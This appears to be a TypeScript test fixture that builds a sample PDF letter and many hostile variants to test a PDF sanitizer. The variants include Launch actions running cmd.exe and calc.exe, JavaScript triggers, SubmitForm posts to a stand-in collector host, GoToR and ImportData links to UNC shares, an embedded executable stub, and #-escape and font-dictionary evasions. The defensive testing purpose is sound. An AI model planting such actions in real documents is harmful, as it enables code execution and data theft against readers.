/**
 * Crafted PDFs for the rebuild's tests (issue 36): a two-page letter with real text, and that letter
 * carrying one way or another of running, opening or sending something. Made when the test runs.
 */
import { PDFArray, PDFDocument, PDFName, PDFString, StandardFonts, type PDFPage } from 'pdf-lib';
import { catalogWith, withUpdate } from './pdfs.ts';

/** A two-page letter with real text (Helvetica), as pdf-lib writes one; `craft` adds to it before saving. */
export async function letter(craft: (document: PDFDocument, pages: PDFPage[]) => void | Promise<void> = () => {}): Promise<Uint8Array> {
  const document = await PDFDocument.create();
  const font = await document.embedFont(StandardFonts.Helvetica);
  const pages = [1, 2].map((number) => {
    const page = document.addPage([612, 792]);
    page.drawText(`Employment agreement, page ${number}`, { x: 72, y: 720, size: 14, font });
    page.drawText('Base salary: $410,000 per year. Term: three years.', { x: 72, y: 690, size: 11, font });
    return page;
  });
  await craft(document, pages);
  return document.save({ useObjectStreams: false });
}

/** The letter with `addition` written into its catalog (a file spelled by hand, names escaped as the author chose). */
export async function letterWithCatalog(addition: string, objects: { number: number; body: string }[] = []): Promise<Uint8Array> {
  const text = Buffer.from(await letter()).toString('latin1');
  const catalog = /(\d+) 0 obj\s*(<<\s*\/Type \/Catalog[\s\S]*?>>)\s*endobj/.exec(text)!;
  return withUpdate(text, [{ number: Number(catalog[1]), body: catalogWith(catalog[2]!, addition) }, ...objects]);
}

export const linkTo = (document: PDFDocument, page: PDFPage, fields: Record<string, unknown>) => {
  const link = document.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [72, 680, 300, 700], Border: [0, 0, 0], ...fields } as never);
  const annots = page.node.lookupMaybe(PDFName.of('Annots'), PDFArray) ?? document.context.obj([]);
  annots.push(document.context.register(link));
  page.node.set(PDFName.of('Annots'), annots);
};

/** The files of part 1 of issue 36: each carries an action or a file a viewer could run, open or send. */
export const crafted: Record<string, () => Promise<Uint8Array>> = {
  'an /OpenAction GoToR to a share, its /S an indirect name': () =>
    letterWithCatalog('/OpenAction 9 0 R', [
      { number: 9, body: '<< /S 10 0 R /F (\\\\\\\\host\\\\share\\\\x.pdf) /D [0 /Fit] >>' },
      { number: 10, body: '/GoToR' },
    ]),
  'an /OpenAction Launch of cmd.exe, its /S indirect': () =>
    letterWithCatalog('/OpenAction 9 0 R', [
      { number: 9, body: '<< /S 10 0 R /Win << /F (cmd.exe) /P (/c calc) >> >>' },
      { number: 10, body: '/Launch' },
    ]),
  'an /OpenAction SubmitForm': () =>
    letterWithCatalog('/OpenAction 9 0 R', [
      { number: 9, body: '<< /S 10 0 R /F << /FS /URL /F (https://collector.test/) >> /Flags 4 >>' },
      { number: 10, body: '/SubmitForm' },
    ]),
  'an /OpenAction ImportData': () =>
    letterWithCatalog('/OpenAction 9 0 R', [
      { number: 9, body: '<< /S 10 0 R /F (\\\\\\\\host\\\\share\\\\data.fdf) >>' },
      { number: 10, body: '/ImportData' },
    ]),
  'a bookmark whose /A is a GoToR with an indirect /S': () =>
    letterWithCatalog('/Outlines 9 0 R /PageMode /UseOutlines', [
      { number: 9, body: '<< /Type /Outlines /First 11 0 R /Last 11 0 R /Count 1 >>' },
      { number: 11, body: '<< /Title (Terms) /Parent 9 0 R /A << /S 10 0 R /F (\\\\\\\\host\\\\share\\\\x.pdf) /D [0 /Fit] >> >>' },
      { number: 10, body: '/GoToR' },
    ]),
  'a page /AA script': () =>
    letter((document, [page]) => {
      page!.node.set(PDFName.of('AA'), document.context.obj({ O: { S: 'JavaScript', JS: PDFString.of('app.alert(1)') } }));
    }),
  'a link with a Launch action': () => letter((document, [page]) => linkTo(document, page!, { A: { S: 'Launch', F: PDFString.of('calc.exe') } })),
  'a link with a javascript: URI': () =>
    letter((document, [page]) => linkTo(document, page!, { A: { S: 'URI', URI: PDFString.of('javascript:app.alert(1)') } })),
  'a link whose /A is an indirect JavaScript action': () =>
    letter((document, [page]) =>
      linkTo(document, page!, { A: document.context.register(document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') })) }),
    ),
  'a link whose /S is an indirect /Launch (and a /URI beside it)': () =>
    letter((document, [page]) =>
      linkTo(document, page!, {
        A: { S: document.context.register(PDFName.of('Launch')), F: PDFString.of('calc.exe'), URI: PDFString.of('https://ok.test/') },
      }),
    ),
  'a link with /AA (and a good web address)': () =>
    letter((document, [page]) =>
      linkTo(document, page!, {
        A: { S: 'URI', URI: PDFString.of('https://example.test/') },
        AA: { E: { S: 'JavaScript', JS: PDFString.of('app.alert(1)') } },
      }),
    ),
  'a widget with a submit action': () =>
    letter((document, [page]) => {
      const button = document.getForm().createButton('send');
      button.addToPage('Send', page!, { x: 72, y: 600, width: 100, height: 30 });
      button.acroField
        .getWidgets()[0]!
        .dict.set(PDFName.of('A'), document.context.obj({ S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('https://collector.test/') } }));
    }),
  'an embedded file and a FileAttachment annotation': () =>
    letter(async (document, [page]) => {
      await document.attach(new TextEncoder().encode('MZ payload'), 'payload.exe', { mimeType: 'application/octet-stream' });
      const fileRef = document.context.register(document.context.flateStream('MZ payload', { Type: 'EmbeddedFile' }));
      const spec = document.context.obj({ Type: 'Filespec', F: PDFString.of('payload.exe'), EF: { F: fileRef } });
      const attachment = document.context.obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: [72, 600, 90, 620], FS: spec });
      page!.node.set(PDFName.of('Annots'), document.context.obj([document.context.register(attachment)]));
    }),
  'names spelled with # escapes (/Open#41ction, /J#53)': () => letterWithCatalog('/Open#41ction << /S /JavaScript /J#53 (app.alert\\(1\\)) >>'),
  'names spelled with lower-case # escapes (/#4caunch)': () => letterWithCatalog('/OpenAction << /S /#4caunch /F (calc.exe) >>'),
  'an XFA AcroForm': () => {
    const xdp = '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"/></xdp:xdp>';
    return letterWithCatalog('/AcroForm << /Fields [] /XFA 9 0 R /NeedsRendering true >>', [
      { number: 9, body: `<< /Length ${xdp.length} >>\nstream\n${xdp}\nendstream` },
    ]);
  },
  'a document-level script (/Names /JavaScript) and /AA on the catalog': () =>
    letterWithCatalog(
      '/Names << /JavaScript << /Names [(init) << /S /JavaScript /JS (this.print\\(\\)) >>] >> >> /AA << /WC << /S /JavaScript /JS (1) >> >>',
    ),
  'a script hidden in a font dictionary (keys no resource has)': async () => {
    const text = Buffer.from(await letter()).toString('latin1');
    const script = '/S /JavaScript /JS (app.alert\\(1\\)) /AA << /O << /S /JavaScript /JS (1) >> >> /Launch (x)';
    return Buffer.from(text.replace('/BaseFont /Helvetica', `/BaseFont /Helvetica ${script}`), 'latin1');
  },
};
